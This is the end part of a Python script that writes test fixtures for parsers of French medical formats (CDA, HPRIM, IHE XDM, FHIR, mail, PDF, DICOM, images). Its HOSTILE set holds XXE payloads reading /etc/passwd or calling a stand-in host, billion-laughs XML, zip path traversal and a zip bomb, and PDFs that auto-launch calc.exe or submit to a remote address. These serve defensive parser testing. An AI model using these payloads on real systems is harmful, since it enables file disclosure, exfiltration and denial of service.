        name = b"IHE_XDM/SUBSET01/" + f"{number:02}".encode() + b"bin"
        changed = record.replace(b"IHE_XDM/SUBSET01/a.bin", name)
        records += changed
    start = made.index(b"PK\x01\x02")
    count = 4 + 50
    return (
        made[:start]
        + records
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(records), start, 0)
    )


def wrong_size_archive() -> bytes:
    """Return an archive whose list says another length than the file has."""
    made = bytearray(xdm())
    place = made.rindex(b"PK\x01\x02")
    made[place + 24 : place + 28] = struct.pack("<L", 50)
    return bytes(made)


def bomb(unpacked: int = 32 * 1024 * 1024) -> bytes:
    """Return an archive with a file that grows a thousand times."""
    listed = [entry("a.bin", b"", size=unpacked)]
    return archive([("a.bin", bytes(unpacked))], listed, method=zipfile.ZIP_DEFLATED)


def deep_mail(depth: int) -> bytes:
    """Return a letter in a letter in a letter."""
    text = "".join(
        f"Content-Type: multipart/mixed; boundary=b{level}\n\n--b{level}\n"
        for level in range(depth)
    )
    return f"From: a@exemple.invalid\nSubject: profond\n{text}\nfond\n".encode()


GOOD: Final[dict[str, Callable[[], bytes]]] = {
    "cda-n3.xml": cda_sections,
    "cda-n1-pdf.xml": lambda: cda_file(PDF),
    "cda-n1-texte.xml": lambda: cda_file(
        "Été à Nîmes.\n  colonne\n".encode("cp1252"), media="text/plain"
    ),
    "cda-n1-image-comprimee.xml": lambda: cda_file(
        zlib.compress(PICTURE, 9), media="image/png", more=' compression="ZL"'
    ),
    "cda-latin1-dit-utf8.xml": lambda: (
        cda_text("<paragraph>Été</paragraph>").decode().replace("’", "'").encode("latin-1")
    ),
    "hprim-latin1.hpr": lambda: hprim("latin-1"),
    "hprim-utf16.hpr": lambda: b"\xff\xfe" + hprim("utf-16-le"),
    "hprim-mac.hpr": lambda: hprim("mac_roman", "\r"),
    "hprim-cp850.hpr": lambda: hprim("cp850"),
    "hprim-utf8.hpr": lambda: hprim("utf-8", "\n"),
    "hprim-ecritures.hpr": hprim_writings,
    "lettre.eml": mail,
    "lettre-html.eml": lambda: MAIL_HTML.encode("cp1252"),
    "lettre-signee.eml": MAIL_SIGNED.encode,
    "lettre-chiffree.eml": MAIL_SEALED.encode,
    "boite.mbox": MAILBOX.encode,
    "xdm.zip": xdm,
    "xdm-autour-du-pdf.zip": xdm_around_pdf,
    "xdm-deux-lots.zip": two_sets,
    "xdm-comprime.zip": lambda: archive(
        [("a.xml", cda_sections())],
        [entry("a.xml", cda_sections())],
        method=zipfile.ZIP_DEFLATED,
    ),
    "fhir.json": fhir_json,
    "fhir.xml": fhir_xml,
    "lettre.pdf": lambda: PDF,
    "lettre-emballee.pdf": lambda: packed_pdf(b""),
    "photo.jpg": lambda: JPEG,
    "dessin.png": drawing,
    "dessin.gif": lambda: GIF,
    "dessin.webp": lambda: WEBP,
    "dessin.bmp": lambda: bmp(2, 2, bytes(16)),
    "fax.tif": lambda: fax(2),
    "radio.dcm": lambda: dicom(frame()),
    "radio-deux-images.dcm": lambda: dicom(frame(2), frames=2),
    "note.txt": "Le fichier finit par ****FIN****.\nÀ revoir.\n".encode,
    "lettre.docx": office,
    "lettre.doc": lambda: OLE,
    "lettre.rtf": lambda: b"{\\rtf1 Bonjour}",
    "photos.zip": lambda: zipped([("photos/1.jpg", JPEG), ("metadata.xml", b"<x/>")]),
}
"""What readers have to read, by its file's name."""

HOSTILE: Final[dict[str, Callable[[], bytes]]] = {
    "xxe-fichier.xml": lambda: doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
    "xxe-reseau.xml": lambda: doctype('<!ENTITY x SYSTEM "http://192.0.2.1/x">', "&x;"),
    "xxe-parametre.xml": lambda: doctype('<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p;', "x"),
    "rires.xml": laughs,
    "dtd-seule.xml": lambda: doctype("", "x"),
    "inclusion.xml": lambda: cda_text(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    ),
    "profond.xml": lambda: cda_text("<content>" * 600 + "x" + "</content>" * 600),
    "profond.json": lambda: (
        b'{"resourceType":"Bundle","entry":' + b"[" * 3_000 + b"]" * 3_000 + b"}"
    ),
    "nombre-long.json": lambda: (
        b'{"resourceType":"Observation","valueInteger":' + b"9" * 20_000 + b"}"
    ),
    "nul.hpr": lambda: hprim("latin-1").replace(b"LEMOINE", b"LE\0MO\x1bINE"),
    "vide.hpr": lambda: b"****FIN****\r\n****FINFICHIER****\r\n",
    "entites.eml": lambda: (
        b"From: a@b\nTo: c@d\nContent-Type: text/html\n\n<p>&#" + b"9" * 9000 + b";</p>"
    ),
    "profond.eml": lambda: deep_mail(300),
    "sans-fin.eml": lambda: mail()[:900],
    "limite-vide.eml": lambda: (
        b'From: a@b\nTo: c@d\nContent-Type: multipart/mixed; boundary=""\n\n--\nx\n--\n'
    ),
    "entete-folle.eml": lambda: (
        b"From: "
        + b"(" * 20_000
        + b"\nTo: "
        + b'"<' * 9000
        + b"\nContent-Type: text/plain; x*99999999999999999999=1; "
        + b'";' * 3000
        + b"\n\nx"
    ),
    "traversee.zip": lambda: zipped(
        [("../../evil.xml", b"x"), ("IHE_XDM/S/METADATA.XML", b"<a/>")]
    ),
    "traversee-windows.zip": lambda: zipped(
        [("IHE_XDM\\..\\..\\evil.xml", b"x"), ("IHE_XDM/S/METADATA.XML", b"<a/>")]
    ),
    "absolu.zip": lambda: zipped([("/etc/passwd", b"x"), ("IHE_XDM/S/METADATA.XML", b"<a/>")]),
    "lecteur.zip": lambda: zipped([("C:/evil.xml", b"x"), ("IHE_XDM/S/METADATA.XML", b"<a/>")]),
    "casse.zip": lambda: zipped(
        [("IHE_XDM/S/METADATA.XML", b"<a/>"), ("IHE_XDM/S/a.pdf", b"1"), ("IHE_XDM/S/A.PDF", b"2")]
    ),
    "lien.zip": link_archive,
    "chiffre.zip": encrypted_archive,
    "chevauchement.zip": overlapping_archive,
    "longueur-fausse.zip": wrong_size_archive,
    "empreinte-fausse.zip": lambda: archive(
        [("a.pdf", PDF)], [entry("a.pdf", PDF, digest="0" * 40)]
    ),
    "taille-fausse.zip": lambda: archive([("a.pdf", PDF)], [entry("a.pdf", PDF, size=7)]),
    "absent.zip": lambda: archive([("a.pdf", PDF)], [entry("a.pdf", PDF), entry("b.pdf", PDF)]),
    "non-annonce.zip": lambda: archive([("a.pdf", PDF), ("b.pdf", PDF)], [entry("a.pdf", PDF)]),
    "deux-patients.zip": lambda: archive(
        [("a.pdf", PDF), ("b.pdf", PDF)], [entry("a.pdf", PDF), entry("b.pdf", PDF, given="Zoé")]
    ),
    "zip-dans-zip.zip": lambda: archive([("x.zip", xdm())], [entry("x.zip", xdm())]),
    "uri-dehors.zip": lambda: archive([("a.pdf", PDF)], [entry("../../README.TXT", README)]),
    "dtd.zip": lambda: zipped([("IHE_XDM/S/METADATA.XML", laughs())]),
    "bombe.zip": bomb,
    "coupe.zip": lambda: xdm()[:-30],
    "coupe.hpr": lambda: hprim("latin-1")[: -len("****FIN****\r\n****FINFICHIER****\r\n") - 20],
    "coupe-tot.hpr": lambda: hprim("latin-1")[:260],
    "coupe.pdf": lambda: packed_pdf(b"")[:-120],
    "tete-seule.pdf": lambda: b"%PDF-1.7\n",
    "lancement.pdf": lambda: packed_pdf(b"/OpenAction 4 0 R", b"<</S/L#61unch/F(calc.exe)>>"),
    "envoi.pdf": lambda: packed_pdf(
        b"/OpenAction 4 0 R", b"<</S/SubmitForm/F(http://192.0.2.1/)>>"
    ),
    "boucle.pdf": lambda: PDF.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[2 0 R]/Count 9"),
    "coupe.jpg": lambda: JPEG[:-40],
    "coupe.png": lambda: drawing()[:-16],
    "somme-fausse.png": lambda: drawing()[:-14] + b"\0" + drawing()[-13:],
    "immense.png": lambda: png(60_000, 60_000, bytes(100)),
    "pixels-absents.png": lambda: png(200, 200, bytes(100)),
    "coupe.gif": lambda: GIF[:-30],
    "coupe.webp": lambda: WEBP[:-10],
    "coupe.bmp": lambda: bmp(2, 2, bytes(16))[:-8],
    "immense.bmp": lambda: bmp(2_000_000_000, 2_000_000_000, bytes(16)),
    "coupe.tif": lambda: fax(2)[:-4],
    "boucle.tif": lambda: fax(2, is_looped=True),
    "trop-de-pages.tif": lambda: fax(501),
    "coupe.dcm": lambda: dicom(frame())[:-20],
    "images-absentes.dcm": lambda: dicom(frame(), frames=3),
    "images-sans-nombre.dcm": lambda: dicom(frame(), frames=999_999_999),
    "longueur-fausse.dcm": lambda: dicom(element(0x7FE0, 0x10, b"OW", b"x", 0x7FFFFFFF)),
    "profond.dcm": lambda: dicom(frame(), more=nested(1_500)),
    "bombe.dcm": lambda: dicom(frame(100_000), syntax=b"1.99"),
    "coupe.mbox": lambda: MAILBOX.encode()[:-40],
    "debuts.mbox": lambda: b"From a Thu Jan  1 00:00:00 1970\n\n" * 2_000,
    "ligne-sans-fin.mbox": lambda: b"From a Thu Jan  1 00:00:00 1970\nSubject: " + b"x" * 60_000,
    "macro.docm": lambda: office(("word/vbaProject.bin", b"x")),
    "coupe.docx": lambda: office()[:-30],
    "coupe.doc": lambda: OLE[:-400],
    "coupe.rtf": lambda: b"{\\rtf1 Bonj",
    "separateurs.txt": lambda: b"\x0c\x1b[2J\xe2\x80\xaetxt.exe\n" * 50,
}
"""What must do no harm, by its file's name."""


COMPRESSED: Final = frozenset(
    (
        *("cda-n1-image-comprimee.xml", "xdm-comprime.zip", "bombe.zip"),
        *("lettre-emballee.pdf", "coupe.pdf", "lancement.pdf", "envoi.pdf"),
        *("dessin.png", "coupe.png", "somme-fausse.png", "immense.png", "pixels-absents.png"),
        "bombe.dcm",
    )
)
"""Their bytes depend on the library that compresses; what comes out of them does not."""


def large() -> dict[str, bytes]:
    """Return what is too large to keep: by the name of the reader that gets it."""
    line = b"a" * 10_000_000
    return {
        "hprim": b"\r\n".join([b"1"] * 12) + b"\r\n" + line + b"\r\n****FIN****\r\n",
        "mail": b"From: a@b\nTo: c@d\nContent-Type: text/plain\n\n" + line,
        "mailbox": b"From a Thu Jan  1 00:00:00 1970\nSubject: x\n\n" + line,
        "cda": cda_text("<paragraph>" + line.decode() + "</paragraph>"),
        "fhir": b'{"resourceType":"Observation","valueString":"' + line + b'"}',
        "xdm": archive([("a.txt", line)], [entry("a.txt", line)]),
    }


def main() -> int:
    """Write the files, or say which of them are not what they should be."""
    is_check = "--check" in sys.argv
    wrong: list[str] = []
    for folder, files in (("good", GOOD), ("hostile", HOSTILE)):
        (HERE / folder).mkdir(exist_ok=True)
        for name, make in files.items():
            path = HERE / folder / name
            content = make()
            if not is_check:
                path.write_bytes(content)
            elif not path.exists() or (name not in COMPRESSED and path.read_bytes() != content):
                wrong.append(f"{folder}/{name}")
    if wrong:
        sys.stderr.write("\n".join(["not what this script writes:", *wrong]) + "\n")
    return 1 if wrong else 0


if __name__ == "__main__":
    sys.exit(main())
